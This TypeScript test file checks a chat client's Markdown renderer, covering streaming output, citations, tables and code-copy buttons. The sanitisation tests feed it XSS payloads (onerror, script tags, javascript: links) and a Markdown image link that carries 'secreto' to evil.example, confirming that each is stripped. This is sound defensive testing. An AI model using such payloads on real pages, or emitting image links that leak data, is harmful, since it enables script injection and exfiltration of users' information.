import { Citation } from '@eira/agents-client';
import { addCodeCopies, codeAt } from './code-copies';
import { markAt, markCitations, tellMarks } from './citation-marks';
import { GrowingText } from './growing';
import { blocksOf, leadsTo, rendered, wordsOf } from './render';

function htmlOf(source: string): string {
  const root = document.createElement('div');
  root.append(rendered(source));
  return root.innerHTML;
}

const TEXT = [
  '# Dietas\n\n',
  'Se pagan **0,26 €** por kilómetro [1].\n\n',
  '- uno\n- dos\n\n  más\n- tres\n\n',
  '```ts\nconst a = 1;\n\nconst b = 2;\n```\n\n',
  '| a | b |\n|---|---|\n| 1 | 2 |\n\nFin.',
].join('');

describe('Markdown', () => {
  it('keeps what people write and nothing that acts', () => {
    expect(htmlOf('**a** [b](https://example.com)')).toBe(
      '<p><strong>a</strong> <a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">b</a></p>\n',
    );
    for (const source of [
      '<img src=x onerror=alert(1)>',
      '<script>alert(1)</script>',
      '<a href="javascript:alert(1)">a</a>',
      '<svg><style>@import "//evil"</style></svg>',
      'a <b onclick="x()">b</b>',
    ]) {
      const html = htmlOf(source);
      expect(html).not.toMatch(/<(?!\/?p>)/);
      expect(html).toContain('&lt;');
    }
  });

  it('links to the web and to nothing else', () => {
    for (const address of [
      'javascript:alert(1)',
      'data:text/html,x',
      '//evil.example',
      '/api/me',
    ]) {
      expect(htmlOf(`[**a**](${address})`)).toBe('<p><strong>a</strong></p>\n');
      expect(leadsTo(address)).toBeNull();
    }
  });

  it('leads to what is an address, and nowhere without one', () => {
    expect(leadsTo('https://example.com/a')).toBe('https://example.com/a');
    expect([leadsTo(null), leadsTo(undefined), leadsTo('')]).toEqual([null, null, null]);
  });

  it('shows no image, which would tell its address to somebody', () => {
    expect(htmlOf('![plano](https://evil.example/?q=secreto)')).toBe('<p>plano</p>\n');
  });

  it('leaves the headings of the page above those of an answer', () => {
    expect(htmlOf('# A')).toBe('<h3>A</h3>\n');
    expect(htmlOf('###### A')).toBe('<h6>A</h6>\n');
  });

  it('shows a text that grows as it shows the whole', () => {
    const whole = document.createElement('div');
    new GrowingText(whole, rendered).show(TEXT);
    for (const size of [3, 17]) {
      const root = document.createElement('div');
      const growing = new GrowingText(root, rendered);
      for (let end = size; end < TEXT.length + size; end += size) growing.show(TEXT.slice(0, end));
      expect(root.innerHTML).toBe(whole.innerHTML);
    }
  });

  it('shows a text the same, whatever its lines end with', () => {
    const [whole, root] = [document.createElement('div'), document.createElement('div')];
    new GrowingText(whole, rendered).show(TEXT);
    const growing = new GrowingText(root, rendered);
    const text = TEXT.replaceAll('\n', '\r\n');
    for (let end = 5; end < text.length + 5; end += 5) growing.show(text.slice(0, end));
    expect(root.innerHTML).toBe(whole.innerHTML);
  });

  it('renders a complete block once, and a text that begins anew from its beginning', () => {
    const root = document.createElement('div');
    const seen: string[] = [];
    const growing = new GrowingText(root, (source) => {
      seen.push(source);
      return rendered(source);
    });
    growing.show('uno\n\ndo');
    const first = root.firstChild;
    growing.show('uno\n\ndos');
    expect(root.firstChild).toBe(first);
    expect(seen).toEqual(['uno\n\n', 'do', 'dos'].map((each) => each.trimEnd()));
    growing.show('tres');
    expect(root.textContent.trim()).toBe('tres');
  });

  it('numbers a list from where it begins, and aligns the columns of tables', () => {
    expect(htmlOf('5. cinco\n6. seis')).toContain('<ol start="5">');
    const html = htmlOf('| a | b |\n|--:|:-:|\n| 1 | 2 |');
    expect(html).toContain('<td align="right">1</td>');
    expect(html).toContain('<td align="center">2</td>');
  });

  it('makes links of what is defined elsewhere, before or behind', () => {
    const text = 'Véase [esto][Ref].\n\nMás.\n\n[ref]: https://example.com/a\n\nY [ref].';
    const root = document.createElement('div');
    const growing = new GrowingText(root, rendered);
    for (let end = 1; end <= text.length; end += 1) growing.show(text.slice(0, end));
    const links = [...root.querySelectorAll('a')];
    expect(links.map(({ textContent, href }) => [textContent, href])).toEqual([
      ['esto', 'https://example.com/a'],
      ['ref', 'https://example.com/a'],
    ]);
    expect(root.textContent).not.toContain('[');
    growing.show('Otro texto: [ref]');
    expect(root.querySelector('a')).toBeNull();
  });

  it('has words without its signs for a piece of a text', () => {
    const piece = '## Dietas\n\nSe pagan **0,26 €** por `km`\npor viaje.\n\n- uno\n- **dos';
    expect(wordsOf(piece)).toBe('Dietas Se pagan 0,26 € por km por viaje. uno dos');
    expect(wordsOf('a < b & c')).toBe('a < b & c');
  });

  it('keeps its height while it begins anew, and never once nothing more comes', () => {
    const root = document.createElement('div');
    Object.defineProperty(root, 'offsetHeight', { value: 300 });
    const growing = new GrowingText(root, rendered);
    growing.show('uno');
    growing.show('otro');
    expect(root.style.minHeight).toBe('300px');
    growing.settle();
    growing.again();
    growing.show('otro más');
    growing.show('nuevo');
    expect(root.style.minHeight).toBe('');
    growing.grow();
    growing.again();
    expect(root.style.minHeight).toBe('300px');
  });

  it('knows where blocks end', () => {
    expect(blocksOf(TEXT)).toHaveLength(6);
  });
});

describe('the marks of citations', () => {
  const citation = { number: 1, verified: false, title: 'Dietas' } as Citation;

  it('are buttons for what they stand for, but not in code or links', () => {
    const fragment = rendered('Sí [1]. No [2]. `[1]` [[1]](https://example.com)');
    markCitations(fragment);
    tellMarks(fragment, [citation], ({ title }) => `Fuente: ${title ?? ''}`);
    const marks = [...fragment.querySelectorAll<HTMLButtonElement>('button')];
    expect(marks.map(({ textContent, disabled }) => [textContent, disabled])).toEqual([
      ['1', false],
      ['2', true],
    ]);
    expect(marks[0]?.ariaLabel).toBe('Fuente: Dietas');
    expect(marks[0]?.classList).toContain('unverified');
    expect(fragment.textContent).toContain('Sí1.');
    expect(markAt(marks[0] ?? null)).toBe(1);
    expect(markAt(document.body)).toBeNull();
  });
});

describe('a block of code', () => {
  it('is copied with its button', () => {
    const fragment = rendered('```\na < b\n```');
    addCodeCopies(fragment, 'Copiar');
    const button = fragment.querySelector('button');
    expect(codeAt(button)?.text).toBe('a < b\n');
    expect(codeAt(document.body)).toBeNull();
  });
});
